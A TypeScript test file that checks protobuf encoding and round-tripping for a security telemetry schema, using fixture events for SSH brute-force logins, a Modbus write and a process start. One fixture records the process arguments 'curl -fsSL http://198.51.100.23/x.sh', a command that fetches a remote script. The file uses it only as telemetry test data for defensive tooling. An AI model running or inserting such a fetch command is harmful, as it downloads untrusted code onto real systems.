import type protobuf from 'protobufjs';
import { describe, expect, it } from 'vitest';
import {
  AGENT_ID,
  BASE_TIME_US,
  mixedEventBatch,
  modbusWrite,
  processStartWithLineage,
  sshBruteForceAttempt,
} from '../test/fixtures.js';
import {
  allMessageTypes,
  declaredMessageNames,
  loadReflection,
  messageSamples,
  type Sample,
} from '../test/sample-messages.js';
import {
  AuthEventOutcome,
  Event,
  EventBatch,
  OtTransactionOperation,
  ProcessEvent,
  ProcessEventAction,
  decodeEventBatch,
  decodeMessage,
  encodeMessage,
  messageTypes,
  type IEventBatch,
  type ProtoMessageType,
} from './index.js';

/** The generated static class, seen through the members this test uses. */
interface GeneratedClass extends ProtoMessageType<Sample, object> {
  verify(message: Record<string, unknown>): string | null;
  toObject(message: never, options?: protobuf.IConversionOptions): Record<string, unknown>;
}

const classes = messageTypes as unknown as Readonly<Record<string, GeneratedClass | undefined>>;
const reflectionTypes = allMessageTypes(loadReflection());
const covered = new Set<string>();

function generatedClass(name: string): GeneratedClass {
  const found = classes[name];
  if (!found) throw new Error(`no generated class for ${name}: run npm run gen -w protos`);
  return found;
}

/** Uint8Array and Buffer (what protobufjs decodes bytes to in Node) compared by content. */
function comparable(value: unknown): unknown {
  if (value instanceof Uint8Array) return { bytes: Array.from(value) };
  if (Array.isArray(value)) return value.map(comparable);
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, comparable(inner)]));
  }
  return value;
}

function isRealOneof(oneof: protobuf.OneOf): boolean {
  return !(oneof.fieldsArray.length === 1 && oneof.fieldsArray[0]?.options?.['proto3_optional'] === true);
}

describe('every message type round-trips with every field set', () => {
  it.each(reflectionTypes.map((type) => [type.fullName.slice(1), type] as const))('%s', (name, type) => {
    const generated = generatedClass(name);
    const samples = messageSamples(type);
    const oneofs = type.oneofsArray.filter(isRealOneof);
    expect(samples).toHaveLength(Math.max(1, ...oneofs.map((oneof) => oneof.fieldsArray.length)));

    for (const sample of samples) {
      expect(generated.verify(sample)).toBeNull();
      const bytes = encodeMessage(generated, sample);
      const decoded = decodeMessage(generated, bytes) as Record<string, unknown>;

      expect(comparable(generated.toObject(decoded as never, { longs: Number }))).toStrictEqual(
        comparable(sample),
      );
      expect(decoded['$unknowns']).toBeUndefined();
      for (const oneof of oneofs) {
        const member = oneof.fieldsArray.find((field) => field.name in sample);
        expect(decoded[oneof.name], `${name}.${oneof.name}`).toBe(member?.name);
      }
      // Decoding loses nothing: encoding the decoded message gives the same bytes.
      expect(encodeMessage(generated, decoded)).toEqual(bytes);
    }
    covered.add(name);
  });

  it('covered exactly the message types the .proto files declare, and the generated code has them all', () => {
    const declared = declaredMessageNames();
    expect(declared.length).toBeGreaterThan(30);
    expect([...covered].sort()).toEqual(declared);
    expect(Object.keys(messageTypes).sort()).toEqual(declared);
  });
});

describe('realistic events through an EventBatch', () => {
  const batch: IEventBatch = {
    agentId: AGENT_ID,
    batchId: `${AGENT_ID}:1`,
    firstSeq: 1,
    sentTimeUnixUs: BASE_TIME_US + 60_000_000,
    events: [
      ...[0, 1, 2, 3, 4].map((attempt) => sshBruteForceAttempt(1 + attempt, attempt)),
      modbusWrite(6),
      processStartWithLineage(7),
    ],
  };

  it('comes back field for field', () => {
    const decoded = decodeEventBatch(encodeMessage(EventBatch, batch));
    expect(EventBatch.toObject(decoded, { longs: Number })).toEqual(batch);
  });

  it('keeps the payload kinds and their details', () => {
    const decoded = decodeEventBatch(encodeMessage(EventBatch, batch));
    expect(decoded.events.map((event) => event.payload)).toEqual([
      'auth',
      'auth',
      'auth',
      'auth',
      'auth',
      'ot',
      'process',
    ]);
    const attempt = decoded.events[1]?.auth;
    expect(attempt?.outcome).toBe(AuthEventOutcome.OUTCOME_FAILURE);
    expect(attempt?.user?.name).toBe('root');
    expect(attempt?.source?.ip).toBe('203.0.113.7');

    const write = decoded.events[5]?.ot;
    expect(write?.functionCode).toBe(16);
    expect(write?.operation).toBe(OtTransactionOperation.OPERATION_WRITE);
    expect((write?.points ?? []).map((point) => [point.address, point.numberValue])).toEqual([
      ['40101', 1200],
      ['40102', 1350],
    ]);

    const start = decoded.events[6]?.process;
    expect(start?.action).toBe(ProcessEventAction.ACTION_START);
    expect(start?.parent?.pid).toBe(start?.process?.ppid);
    expect(start?.ancestorEntityIds).toHaveLength(2);
    expect(start?.process?.args).toEqual(['curl', '-fsSL', 'http://198.51.100.23/x.sh']);
  });

  it('round-trips a large mixed batch', () => {
    const large = mixedEventBatch(1_000, 5_000);
    const decoded = decodeEventBatch(encodeMessage(EventBatch, large));
    expect(EventBatch.toObject(decoded, { longs: Number })).toEqual(large);
  });
});

describe('64-bit fields', () => {
  it.each([
    ['a realistic time and seq', 1.8e15, 1.8e15 + 850, 2 ** 40],
    ['the largest exact values', Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER],
    ['a time before 1970', -1_000_000, -999_999, 1],
  ])('survive exactly: %s', (_label, time, observed, seq) => {
    const decoded = decodeMessage(
      Event,
      encodeMessage(Event, { agentId: AGENT_ID, seq, timeUnixUs: time, observedTimeUnixUs: observed }),
    );
    expect(typeof decoded.seq).toBe('number');
    expect(decoded.seq).toBe(seq);
    expect(decoded.timeUnixUs).toBe(time);
    expect(decoded.observedTimeUnixUs).toBe(observed);
  });

  it('decode to numbers, never Long objects, also when absent', () => {
    const empty = decodeMessage(Event, new Uint8Array(0));
    expect(empty.seq).toBe(0);
    expect(empty.timeUnixUs).toBe(0);
  });
});

describe('proto3 optional fields keep presence', () => {
  it('distinguishes exit code 0 from no exit code', () => {
    const exited = decodeMessage(
      ProcessEvent,
      encodeMessage(ProcessEvent, { action: ProcessEventAction.ACTION_EXIT, exitCode: 0 }),
    );
    const started = decodeMessage(
      ProcessEvent,
      encodeMessage(ProcessEvent, { action: ProcessEventAction.ACTION_START }),
    );
    expect(exited.exitCode).toBe(0);
    expect(Object.hasOwn(exited, 'exitCode')).toBe(true);
    expect(started.exitCode ?? undefined).toBeUndefined();
    expect(Object.hasOwn(started, 'exitCode')).toBe(false);
  });
});
